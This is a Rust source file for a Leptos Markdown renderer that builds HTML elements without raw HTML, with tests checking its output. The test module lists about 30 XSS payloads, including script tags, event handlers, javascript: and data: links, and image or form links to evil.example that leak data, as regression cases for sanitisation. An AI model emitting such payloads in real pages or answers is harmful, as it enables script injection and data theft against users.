//! Draws the tree of a Markdown text as elements. There is no way from here to raw HTML.

use super::super::model::document::Piece;
use super::super::model::markdown::{Column, Node};
use super::code_block::CodeBlock;
use leptos::prelude::*;

/// A text whose blocks come and change at the end only: each keeps its elements while it grows.
#[component]
pub fn Markdown(#[prop(into)] pieces: Signal<Vec<Piece>>) -> impl IntoView {
    let block = move |piece: Piece| {
        let key = piece.key;
        let node = Memo::new(move |_| {
            let found = pieces.with(|all| all.iter().find(|piece| piece.key == key).cloned());
            found.unwrap_or_else(|| piece.clone())
        });
        move || draw(&node.read().node)
    };
    view! {
        <div class="prose" dir="auto">
            <For each=move || pieces.get() key=|piece| piece.key children=block />
        </div>
    }
    .into_any()
}

fn draw_all(nodes: &[Node]) -> Vec<AnyView> {
    nodes.iter().map(draw).collect()
}

/// One node and what is in it.
pub fn draw(node: &Node) -> AnyView {
    match node {
        Node::Text(text) => text.clone().into_any(),
        Node::Code(text) => view! { <code>{text.clone()}</code> }.into_any(),
        Node::Break => view! { <br /> }.into_any(),
        Node::Rule => view! { <hr /> }.into_any(),
        Node::Strong(inside) => view! { <strong>{draw_all(inside)}</strong> }.into_any(),
        Node::Emphasis(inside) => view! { <em>{draw_all(inside)}</em> }.into_any(),
        Node::Strike(inside) => view! { <s>{draw_all(inside)}</s> }.into_any(),
        Node::Paragraph(inside) => view! { <p>{draw_all(inside)}</p> }.into_any(),
        Node::Quote(inside) => view! { <blockquote>{draw_all(inside)}</blockquote> }.into_any(),
        Node::Literal(text) => view! { <p class="literal">{text.clone()}</p> }.into_any(),
        Node::Task(done) => view! { <input type="checkbox" disabled checked=*done /> }.into_any(),
        Node::Heading(rank, inside) => heading(*rank, inside),
        Node::Link { href, label } => link(href.as_deref(), label),
        Node::CodeBlock { language, text } => {
            view! { <CodeBlock language=language.clone() text=text.clone() /> }.into_any()
        }
        Node::List { start, items } => list(*start, items),
        Node::Table {
            columns,
            head,
            rows,
        } => table(columns, head, rows),
    }
}

/// The page's own title is the only first heading, so those of an answer begin at the third: turns
/// are the second.
fn heading(rank: u8, inside: &[Node]) -> AnyView {
    let inside = draw_all(inside);
    match rank {
        1 => view! { <h3>{inside}</h3> }.into_any(),
        2 => view! { <h4>{inside}</h4> }.into_any(),
        3 => view! { <h5>{inside}</h5> }.into_any(),
        _ => view! { <h6>{inside}</h6> }.into_any(),
    }
}

fn link(href: Option<&str>, label: &[Node]) -> AnyView {
    let label = draw_all(label);
    match href {
        Some(href) => view! {
            <a href=href.to_string() target="_blank" rel="noopener noreferrer nofollow">
                {label}
            </a>
        }
        .into_any(),
        None => view! { <span>{label}</span> }.into_any(),
    }
}

fn list(start: Option<u64>, items: &[Vec<Node>]) -> AnyView {
    let items: Vec<_> = items
        .iter()
        .map(|item| {
            let task = matches!(item.first(), Some(Node::Task(_)));
            view! { <li class:task=task>{draw_all(item)}</li> }
        })
        .collect();
    match start {
        Some(start) => view! { <ol start=start.to_string()>{items}</ol> }.into_any(),
        None => view! { <ul>{items}</ul> }.into_any(),
    }
}

fn table(columns: &[Column], head: &[Vec<Node>], rows: &[Vec<Vec<Node>>]) -> AnyView {
    let side = |index: usize| match columns.get(index) {
        Some(Column::End) => "end",
        Some(Column::Centre) => "centre",
        _ => "start",
    };
    let head: Vec<_> = head
        .iter()
        .enumerate()
        .map(|(i, cell)| view! { <th scope="col" class=side(i)>{draw_all(cell)}</th> })
        .collect();
    let row = |cells: &Vec<Vec<Node>>| {
        let cells: Vec<_> = cells
            .iter()
            .enumerate()
            .map(|(i, cell)| view! { <td class=side(i)>{draw_all(cell)}</td> })
            .collect();
        view! { <tr>{cells}</tr> }
    };
    let rows: Vec<_> = rows.iter().map(row).collect();
    view! {
        <div class="table" role="region" aria-label="Table" tabindex="0">
            <table>
                <thead>
                    <tr>{head}</tr>
                </thead>
                <tbody>{rows}</tbody>
            </table>
        </div>
    }
    .into_any()
}

#[cfg(test)]
mod tests {
    use super::super::super::model::document::Document;
    use super::*;

    /// Everything that an answer may consist of.
    const ELEMENTS: &[&str] = &[
        "a",
        "blockquote",
        "br",
        "button",
        "code",
        "div",
        "em",
        "figcaption",
        "figure",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "input",
        "li",
        "ol",
        "p",
        "path",
        "pre",
        "rect",
        "s",
        "span",
        "strong",
        "svg",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "use",
    ];

    /// What strangers have tried elsewhere, and what models have been talked into.
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <img src=x onerror=alert(1)> b",
        "<svg/onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](//evil.example)",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](https://a.example \"t\\\"onmouseover=alert(1)\")",
        "![x](https://evil.example/pixel.png?data=secret)",
        "![x\"onerror=\"alert(1)](javascript:alert(1))",
        "[![x](https://evil.example/a.png)](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "```\"><script>alert(1)</script>\nx\n```",
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "`</code><script>alert(1)</script>`",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "- [x] <form action=https://evil.example><input>",
        "# <style>*{background:url(https://evil.example)}</style>",
        "> <meta http-equiv=refresh content=0;url=https://evil.example>",
        "<!-- --><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "\u{0}<scr\u{0}ipt>alert(1)</script>",
        "<math><mi xlink:href=javascript:alert(1)>",
        "\\<b onclick=alert(1)>x",
    ];

    fn drawn(text: &str) -> String {
        let owner = Owner::new();
        owner.with(|| {
            let pieces = Document::default().advance(text, false);
            pieces
                .iter()
                .map(|piece| draw(&piece.node).to_html())
                .collect()
        })
    }

    /// Names and attributes of all elements; text never holds a bare `<`.
    fn tags(html: &str) -> Vec<(String, String)> {
        html.split('<')
            .skip(1)
            .filter(|tag| !tag.starts_with(['/', '!']))
            .filter_map(|tag| tag.split_once('>'))
            .map(|(tag, _)| tag.split_once(' ').unwrap_or((tag, "")))
            .map(|(name, attributes)| (name.to_string(), attributes.to_string()))
            .collect()
    }

    #[test]
    fn nothing_hostile_becomes_an_element_or_an_address() {
        for source in HOSTILE {
            let html = drawn(source);
            for (name, attributes) in tags(&html) {
                assert!(
                    ELEMENTS.contains(&name.as_str()),
                    "{source:?}: <{name}> in {html}"
                );
                assert!(!attributes.contains("src="), "{source:?}: {html}");
                for attribute in attributes.split('"').step_by(2) {
                    assert!(
                        !attribute.trim_start().starts_with("on"),
                        "{source:?}: {html}"
                    );
                }
                if let Some((_, rest)) = attributes.split_once("href=\"") {
                    let safe = ["https://", "http://", "mailto:", "#"];
                    assert!(
                        safe.iter().any(|s| rest.starts_with(s)),
                        "{source:?}: {html}"
                    );
                }
            }
        }
    }

    #[test]
    fn a_link_opens_apart_and_tells_nothing() {
        let html = drawn("[x](https://a.example)");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
        assert!(html.contains("target=\"_blank\""), "{html}");
    }

    #[test]
    fn code_is_drawn_with_its_language_and_a_copy_button() {
        let html = drawn("```sql\nselect 1 < 2;\n```");
        assert!(html.contains("select 1 &lt; 2;"), "{html}");
        assert!(
            html.contains("aria-label=\"sql\"") && html.contains("Copy"),
            "{html}"
        );
    }
}
